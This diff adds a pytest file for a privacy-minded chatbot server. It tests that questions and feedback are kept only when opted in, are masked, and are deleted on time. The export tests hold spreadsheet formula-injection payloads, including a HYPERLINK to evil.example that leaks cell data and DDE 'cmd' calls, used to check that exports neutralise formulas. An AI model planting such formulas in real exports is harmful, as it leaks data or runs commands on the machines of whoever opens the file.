@@ -1,0 +1,426 @@
+"""What is kept of a visitor: nothing, unless the owner keeps questions, and then without who asked."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+import json
+import re
+import stat
+import threading
+from collections.abc import Callable
+from datetime import UTC, date, datetime, timedelta
+from pathlib import Path
+
+import httpx
+import pytest
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+from playwright.sync_api import Browser
+
+from browsing import visiting
+from combinations import one_of
+from event_loops import run_apart
+from partnerbot.answering.answer import Answer
+from partnerbot.cli import main
+from partnerbot.errors import ConfigurationError
+from partnerbot.settings import Settings
+from partnerbot.web import reception
+from partnerbot.web.app import create_app
+from partnerbot.web.page_texts import languages, texts_of
+from partnerbot.web.privacy_page import privacy_pages
+from partnerbot.web.records.feedback import LARGEST_DAY_BYTES, OF_ONE_DAY_BYTES
+from partnerbot.web.records.personal_data import EMAIL, NUMBER, masked
+from partnerbot.web.records.question_log import QuestionLog
+from scripted_bot import ScriptedBot
+from serving import serving
+
+VITAGORA = "When did Vitagora open its Kumamoto office?"
+NOON = datetime(2026, 3, 10, 12, 5, 42, tzinfo=UTC)
+
+
+def bot_with(folder: Path, **settings: object) -> ScriptedBot:
+    """Return a scripted bot whose settings differ from the tests' own in these."""
+    bot = ScriptedBot(folder)
+    bot.settings = Settings.model_validate(bot.settings.model_dump() | settings)
+    return bot
+
+
+@pytest.fixture
+def answer(tmp_path: Path) -> Answer:
+    return ScriptedBot(tmp_path / "bot").ask(VITAGORA)
+
+
+# ---- The log -----------------------------------------------------------------------------------
+
+
+def test_nothing_is_kept_by_default(tmp_path: Path) -> None:
+    """Asking leaves no file behind."""
+    bot = bot_with(tmp_path)
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
+    assert not bot.settings.state.exists()
+
+
+def test_a_kept_question_says_nothing_of_who_asked(tmp_path: Path) -> None:
+    """The question masked, what became of it and the minute; no address, no header, no history."""
+    bot = bot_with(tmp_path, keep_questions_days=30)
+    question = f"{VITAGORA} Answer to ken@example.jp"
+    with TestClient(create_app(bot), "http://127.0.0.1", client=("203.0.113.77", 5)) as client:
+        body = {"question": question, "history": [{"role": "user", "content": "secret history"}]}
+        client.post("/api/ask", json=body, headers={"User-Agent": "Identifying/1.0"})
+    (file,) = (bot.settings.state / "questions").iterdir()
+    (line,) = file.read_text("utf-8").splitlines()
+    kept = json.loads(line)
+    assert kept.keys() == {"minute", "language", "status", "question", "sources"}
+    assert kept["question"] == f"{VITAGORA} Answer to {EMAIL}"
+    assert kept["sources"] == ["dijon.fr.md", "articles/熊本 交流.md"]
+    assert len(kept["minute"]) == len("2026-03-10T12:05")
+    for trace in ("203.0.113.77", "Identifying", "secret history"):
+        assert trace not in line
+    assert stat.S_IMODE(file.stat().st_mode) == 0o600
+
+
+def test_an_entry_is_gone_when_its_days_are_over(tmp_path: Path, answer: Answer) -> None:
+    """Not a day later; younger ones stay."""
+    log = QuestionLog(tmp_path, 3)
+    for age in range(6):
+        log.keep(answer, NOON - timedelta(days=age))
+    assert log.purge(NOON.date()) == 3
+    assert [entry.minute[:10] for entry in log.entries()] == ["2026-03-08", "2026-03-09", "2026-03-10"]
+
+
+def test_no_longer_keeping_deletes_what_was_kept(tmp_path: Path) -> None:
+    """A server that starts with 0 days purges at once, so that its privacy page is true."""
+    kept = bot_with(tmp_path / "a", keep_questions_days=30)
+    state = tmp_path / "state"
+    kept.settings = kept.settings.model_copy(update={"state": state})
+    with TestClient(create_app(kept), "http://127.0.0.1") as client:
+        client.post("/api/ask", json={"question": VITAGORA})
+    assert list((state / "questions").iterdir())
+    with TestClient(create_app(bot_with(tmp_path / "b", state=state)), "http://127.0.0.1") as client:
+        client.get("/health")
+        client.post("/api/ask", json={"question": VITAGORA})
+    assert not list((state / "questions").iterdir())
+
+
+def test_a_full_disk_loses_the_entry_and_not_the_answer(tmp_path: Path) -> None:
+    """What can't be kept is told to the operator only."""
+    bot = bot_with(tmp_path, keep_questions_days=3)
+    bot.settings.state.mkdir()
+    (bot.settings.state / "questions").write_text("no folder")
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        assert client.post("/api/ask", json={"question": VITAGORA}).status_code == 200
+
+
+# ---- Feedback ----------------------------------------------------------------------------------
+
+WORD = {
+    "useful": False,
+    "comment": "Écrivez à jean@mairie.example ou au 06 12 34 56 78",
+    "language": "fr",
+    "status": "answered",
+    "question": "Mon passeport 12AB34567 ?",
+    "answer": "Appelez le 03 80 00 00 00.",
+}
+
+
+@pytest.mark.parametrize("with_questions", [False, True])
+def test_feedback_is_masked_and_deleted_in_time(tmp_path: Path, with_questions: bool) -> None:
+    """Question and answer only if the owner wants them; e-mail addresses and numbers never."""
+    folder = tmp_path / "feedback"
+    folder.mkdir()
+    (folder / "2020-01-01.jsonl").write_text("{}")
+    bot = bot_with(tmp_path / "bot", feedback=str(folder), feedback_questions=with_questions)
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        assert client.post("/api/feedback", json=WORD).status_code == 204
+    (file,) = folder.iterdir()  # the old one went when the server began
+    kept = json.loads(file.read_text("utf-8"))
+    assert kept["comment"] == f"Écrivez à {EMAIL} ou au {NUMBER}"
+    expected = (f"Mon passeport {NUMBER} ?", f"Appelez le {NUMBER}.") if with_questions else (None, None)
+    assert (kept.get("question"), kept.get("answer")) == expected
+    assert not {"client", "address", "ip", "session"} & set(kept)
+
+
+def test_feedback_is_for_staff_alone(tmp_path: Path) -> None:
+    """Other accounts of the machine can neither read it nor list the folder."""
+    folder = tmp_path / "feedback"
+    client = TestClient(create_app(bot_with(tmp_path / "bot", feedback=str(folder))), "http://127.0.0.1")
+    assert client.post("/api/feedback", json=WORD).status_code == 204
+    (file,) = folder.iterdir()
+    assert [stat.S_IMODE(path.stat().st_mode) for path in (folder, file)] == [0o700, 0o600]
+
+
+def test_feedback_fills_no_disk(tmp_path: Path) -> None:
+    """A day's file has its end: then visitors are told that theirs isn't kept."""
+    folder = tmp_path / "feedback"
+    folder.mkdir()
+    for day in (datetime.now(UTC).date() + timedelta(days=n) for n in (0, 1)):  # midnight may come
+        with (folder / f"{day}.jsonl").open("wb") as file:
+            file.truncate(LARGEST_DAY_BYTES + 1)
+    client = TestClient(create_app(bot_with(tmp_path / "bot", feedback=str(folder))), "http://127.0.0.1")
+    refused = client.post("/api/feedback", json=WORD, headers={"Accept-Language": "ja"})
+    assert (refused.status_code, refused.json()["error"]["reason"]) == (503, "not_kept")
+    assert refused.json()["error"]["message"] == texts_of("ja").feedback.failed
+    assert all(file.stat().st_size == LARGEST_DAY_BYTES + 1 for file in folder.iterdir())
+    assert client.post("/api/feedback", json=WORD | {"comment": "x" * 3000}).status_code == 422
+
+
+def test_one_client_leaves_room_for_the_feedback_of_others(tmp_path: Path) -> None:
+    """What it sends is counted in bytes; sources are documents of ours."""
+    app = create_app(bot_with(tmp_path / "bot", feedback=str(tmp_path / "feedback"), feedback_questions=True))
+    long = {"comment": "😀" * 2000, "question": "😀" * 1000, "answer": "😀" * 4000}
+    word = WORD | long | {"sources": ["dijon.fr.md", "Any text"]}
+
+    async def give(address: str) -> int:
+        transport = httpx.ASGITransport(app, client=(address, 1234))
+        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
+            return (await client.post("/api/feedback", json=word)).status_code
+
+    statuses = [run_apart(give("203.0.113.7")) for _ in range(10)]
+    assert (statuses[0], statuses[-1]) == (204, 429)
+    assert run_apart(give("203.0.113.8")) == 204
+    lines = [
+        line for file in (tmp_path / "feedback").iterdir() for line in file.read_text("utf-8").splitlines()
+    ]
+    assert sum(len(line.encode()) for line in lines[:-1]) <= OF_ONE_DAY_BYTES
+    assert {tuple(json.loads(line)["sources"]) for line in lines} == {("dijon.fr.md",)}
+    networks = [run_apart(give(f"2001:db8:1:{number}::5")) for number in range(40)]
+    assert (networks[0], networks[-1]) == (204, 429)  # of one site
+    assert run_apart(give("2001:db8:2:1::5")) == 204
+
+
+def test_who_has_sent_enough_feedback_causes_no_more_work(tmp_path: Path) -> None:
+    """What is refused is not even looked at."""
+    bot = bot_with(tmp_path / "bot", feedback=str(tmp_path / "feedback"))
+    looked_up: list[str] = []
+    text_of = bot.document_text
+    bot.document_text = lambda source: (looked_up.append(source), text_of(source))[1]  # type: ignore[method-assign]
+    word = WORD | {"comment": "😀" * 2000, "answer": "😀" * 4000, "sources": ["none.md"]}
+    with TestClient(create_app(bot), "http://127.0.0.1") as client:
+        statuses = [client.post("/api/feedback", json=word).status_code for _ in range(20)]
+    assert statuses[-1] == 429
+    assert looked_up.count("none.md") == statuses.count(204) > 0
+
+
+def test_where_no_feedback_is_wanted_there_is_no_way_to_give_it(tmp_path: Path) -> None:
+    """The route is closed, and the chat doesn't ask."""
+    client = TestClient(create_app(bot_with(tmp_path, feedback="off")), "http://127.0.0.1")
+    assert client.post("/api/feedback", json=WORD).status_code in (404, 405)
+
+
+def test_a_file_of_no_day_is_left_alone(tmp_path: Path, answer: Answer) -> None:
+    """A date that doesn't exist keeps the others neither from being deleted nor from being read."""
+    log = QuestionLog(tmp_path, 3)
+    log.keep(answer, NOON)
+    log.keep(answer, NOON - timedelta(days=9))
+    (tmp_path / "questions" / "2026-02-30.jsonl").write_text("{}")
+    (tmp_path / "questions" / "notes.jsonl").write_text("{}")
+    assert log.purge(NOON.date()) == 1
+    assert len(list(log.entries())) == 1
+    assert len(list((tmp_path / "questions").iterdir())) == 3
+
+
+def test_deleting_in_time_outlives_any_failure(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """What fails is logged and tried again; the rest is deleted all the same."""
+    folder = tmp_path / "feedback"
+    folder.mkdir()
+    (folder / "2020-01-01.jsonl").write_text("{}")
+    monkeypatch.setattr(reception, "PURGED_EVERY_SECONDS", 0)
+    tries = iter([RuntimeError("first"), OSError("second"), ConfigurationError("third")])
+    tried_again = threading.Event()
+
+    def purge(_: QuestionLog) -> int:
+        if (error := next(tries, None)) is not None:
+            raise error
+        tried_again.set()
+        return 0
+
+    monkeypatch.setattr(QuestionLog, "purge", purge)
+
+    async def scene() -> None:
+        purging = asyncio.create_task(
+            reception.Reception(bot_with(tmp_path / "bot", feedback=str(folder))).purge_in_time()
+        )
+        assert await asyncio.to_thread(tried_again.wait, 10)
+        purging.cancel()
+
+    run_apart(scene())
+    assert not list(folder.iterdir())
+    assert all(reason in caplog.text for reason in ("first", "second", "third"))
+
+
+# ---- Exports -----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def run(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> Callable[..., str]:
+    """Run `partnerbot questions` on tmp_path, with three days; return what it printed."""
+    monkeypatch.setenv("PARTNERBOT_STATE", str(tmp_path))
+    monkeypatch.setenv("PARTNERBOT_KEEP_QUESTIONS_DAYS", "3")
+
+    def command(*arguments: str) -> str:
+        monkeypatch.setattr("sys.argv", ["partnerbot", "questions", *arguments])
+        with pytest.raises(SystemExit) as ended:
+            main()
+        assert not ended.value.code
+        return capsys.readouterr().out
+
+    return command
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "  =1+1",
+        "＝1＋1",
+        "\t=1+1",
+    ],
+)
+def test_a_spreadsheet_calculates_nothing_of_an_export(
+    tmp_path: Path, answer: Answer, run: Callable[..., str], formula: str
+) -> None:
+    """A question that is a formula is text in the table, and whole."""
+    QuestionLog(tmp_path, 3).keep(answer.model_copy(update={"question": formula}), NOON)
+    (row,) = csv.DictReader(io.StringIO(run()))
+    assert row["question"].startswith("'")
+    assert row["question"].replace("'", "") == masked(formula).replace("'", "")
+
+
+@pytest.mark.parametrize("separator", [";", "; ", ";;", "\t", "\n", "\r\n", "\r", ';"', ';""', ";\t", "\n;"])
+@pytest.mark.parametrize("formula", ["=cmd|'/C calc'!A0", "+1", "-2+3", "@SUM(A1)", "＝1＋1"])
+def test_nor_where_it_splits_a_question(
+    tmp_path: Path, answer: Answer, run: Callable[..., str], separator: str, formula: str
+) -> None:
+    """A French Excel begins a cell at each ";": none that it sees is a formula, and no word is lost."""
+    question = f"Horaires ?{separator}{formula};"
+    QuestionLog(tmp_path, 3).keep(answer.model_copy(update={"question": question}), NOON)
+    table = run()
+    for cell in re.split(r"[;\t\r\n]", table):
+        assert not re.match(r'[\s"]*[=+\-@＝＋－＠]', cell), table
+    (row,) = csv.DictReader(io.StringIO(table, newline=""))
+    assert row["question"].replace("'", "") == masked(question).replace("'", "")
+
+
+def test_a_question_without_a_formula_stays_as_it_was_asked(
+    tmp_path: Path, answer: Answer, run: Callable[..., str]
+) -> None:
+    """Hyphens, sums and several sentences are left alone."""
+    question = "Dijon-Kumamoto ; l'accord, 2+2 = 4 ?\nEt après; rien"
+    QuestionLog(tmp_path, 3).keep(answer.model_copy(update={"question": question}), NOON)
+    (row,) = csv.DictReader(io.StringIO(run(), newline=""))
+    assert row["question"] == question
+
+
+def test_export_and_purge(tmp_path: Path, answer: Answer, run: Callable[..., str]) -> None:
+    """A table, or JSON a line; a line cut off by a crash is left out; purging empties what is too old."""
+    log = QuestionLog(tmp_path, 3)
+    log.keep(answer, NOON)
+    (file,) = (tmp_path / "questions").iterdir()
+    with file.open("a") as lines:
+        lines.write('{"minute": "20')
+    assert [row["question"] for row in csv.DictReader(io.StringIO(run()))] == [VITAGORA]
+    assert json.loads(run("--json"))["language"] == "en"
+    assert date.fromisoformat("2026-03-10") < datetime.now(UTC).date()
+    assert run("--purge") == ""
+    assert list(csv.DictReader(io.StringIO(run()))) == []
+
+
+# ---- The page ----------------------------------------------------------------------------------
+
+
+def privacy_page(folder: Path, language: str, **settings: object) -> str:
+    app = FastAPI()
+    app.include_router(privacy_pages(bot_with(folder, **settings).settings))
+    client = TestClient(app)
+    response = client.get(f"/privacy/{language}")
+    assert response.status_code == 200
+    assert "script-src" not in response.headers["content-security-policy"]
+    assert client.get("/privacy/xx").status_code == 404
+    return response.text
+
+
+@pytest.mark.parametrize("language", languages())
+def test_the_privacy_page_says_what_the_settings_do(tmp_path: Path, language: str) -> None:
+    """Kept or not, for how long, where questions are counted, which sites show the chat, whom to ask."""
+    texts = texts_of(language).privacy
+    plain = privacy_page(tmp_path / "a", language)
+    assert texts.not_kept in plain
+    assert texts.address_in_memory in plain
+    assert texts.sites not in plain
+    kept = privacy_page(
+        tmp_path / "b",
+        language,
+        keep_questions_days=17,
+        limits_store="redis://127.0.0.1:1",
+        allowed_origins="https://www.dijon.example",
+        contact="dpo@example.org",
+        llm="ollama:gemma3:12b",
+    )
+    assert texts.answering in plain
+    assert texts.answering not in kept
+    assert "ollama:gemma3:12b" in kept
+    assert texts.not_kept not in kept
+    assert texts.kept.format(days=17) in kept
+    assert texts.address_in_store in kept
+    assert "https://www.dijon.example" in kept
+    assert "mailto:dpo@example.org" in kept
+    assert "{" not in kept
+    assert texts.legitimate_interest in plain
+    assert "CNIL" in plain
+
+
+@pytest.mark.parametrize("language", languages())
+def test_the_legal_pages_say_what_the_owner_states(tmp_path: Path, language: str) -> None:
+    """Who publishes and hosts, who is responsible and on what basis; what isn't stated is said not to be."""
+    texts = texts_of(language)
+    appearance = tmp_path / "appearance.toml"
+    appearance.write_text(
+        '[legal]\npublisher = "Ville de Clairmoulin <1 place>"\nhost = "Hébergement SA"\n'
+        'basis = "public_interest"\n',
+        "utf-8",
+    )
+    app = FastAPI()
+    app.include_router(privacy_pages(bot_with(tmp_path / "a", appearance=appearance).settings))
+    client = TestClient(app)
+    legal, privacy = (client.get(f"/{page}/{language}").text for page in ("legal", "privacy"))
+    assert "Ville de Clairmoulin &lt;1 place&gt;" in legal
+    assert "Ville de Clairmoulin &lt;1 place&gt;" in privacy
+    assert "Hébergement SA" in legal
+    assert legal.count(texts.legal.unset) == 1
+    assert texts.privacy.public_interest in privacy
+    levels = [int(level) for level in re.findall(r"<h(\d)", privacy)]
+    assert levels[0] == 1
+    assert set(levels[1:]) == {2}
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("language", one_of(["fr", "ja", "en"], "fr"))
+def test_the_browser_keeps_nothing(tmp_path: Path, browser: Browser, language: str) -> None:
+    """No cookie ever, no storage before a question, then at most the tab's conversation; notice first."""
+    with serving(bot_with(tmp_path)) as address, visiting(browser, address) as visitor:
+        page = visitor.open(language)
+        notice = page.locator(".pb-welcome .pb-notice")
+        assert notice.is_visible()
+        assert texts_of(language).page.notice in notice.inner_text()
+        stored = (
+            "async () => [localStorage.length, (await indexedDB.databases()).length,"
+            " (await caches.keys()).length,"
+            " (await navigator.serviceWorker.getRegistrations()).length, ...Object.keys(sessionStorage)]"
+        )
+        assert page.evaluate(stored) == [0, 0, 0, 0]
+        visitor.ask(VITAGORA)
+        assert page.context.cookies() == []
+        assert page.evaluate(stored) in ([0, 0, 0, 0], [0, 0, 0, 0, "partnerbot"])
+        with page.expect_popup() as opened:
+            page.locator("#foot [href^='/privacy/']").click()
+        assert opened.value.locator("h1").inner_text() == texts_of(language).privacy.title
